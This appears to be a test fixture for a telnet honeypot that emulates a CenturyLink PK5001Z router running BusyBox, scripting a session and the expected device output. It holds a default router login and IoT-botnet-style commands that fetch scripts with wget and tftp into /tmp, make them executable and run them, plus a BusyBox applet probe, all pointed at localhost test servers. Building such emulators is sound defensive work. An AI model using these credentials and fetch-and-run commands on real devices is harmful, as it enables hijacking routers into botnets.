! fetch
# PK5001Z (BusyBox 1.17.1): with fetching on, wget and tftp wait for the
# download and print what BusyBox 1.1x prints (networking/wget.c: the
# "Connecting to" line, the status bar on an 80-column terminal, "server
# returned error"; tftp: silent, "server error: (N) text"), the file lands
# in the session's fs and the rest of the line runs on it.
< b'\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\r\r\nPK5001Z login: '
> b'admin\r\n'
< b'admin\r\nPassword: '
> b'CenturyL1nk\r\n'
< b'\r\n\r\n$ '
> b'cd /tmp; wget http://127.0.0.1:{http}/bins/x.sh && chmod 777 x.sh && ./x.sh\r\n'
< b'cd /tmp; wget http://127.0.0.1:{http}/bins/x.sh && chmod 777 x.sh && ./x.sh\r\n'
< b'Connecting to 127.0.0.1:{http} (127.0.0.1:{http})\r\n'
< b'\rx.sh                   0% |                               |     0  --:--:-- ETA'
< b'\rx.sh                 100% |*******************************|    24  --:--:-- ETA\r\n'
< b'fetched script ran\r\n$ '
> b'wget http://127.0.0.1:{http}/bins/nope || echo gone\r\n'
< b'wget http://127.0.0.1:{http}/bins/nope || echo gone\r\n'
< b'Connecting to 127.0.0.1:{http} (127.0.0.1:{http})\r\n'
< b'wget: server returned error: HTTP/1.1 404 Not Found\r\ngone\r\n$ '
> b'wget -q -O - http://127.0.0.1:{http}/bins/t.bin | wc -c\r\n'
< b'wget -q -O - http://127.0.0.1:{http}/bins/t.bin | wc -c\r\n10240\r\n$ '
> b'tftp -g -r x.sh 127.0.0.1 {tftp}; sh x.sh; tftp -g -r nope 127.0.0.1 {tftp}\r\n'
< b'tftp -g -r x.sh 127.0.0.1 {tftp}; sh x.sh; tftp -g -r nope 127.0.0.1 {tftp}\r\n'
< b'tftp script ran\r\ntftp: server error: (1) File not found\r\n$ '
> b'wget http://nosuch.test/x; /bin/busybox ECCHI\r\n'
< b'wget http://nosuch.test/x; /bin/busybox ECCHI\r\n'
< b"wget: bad address 'nosuch.test'\r\nECCHI: applet not found\r\n$ "
> b'exit\r\n'
< b'exit\r\n'
= closed
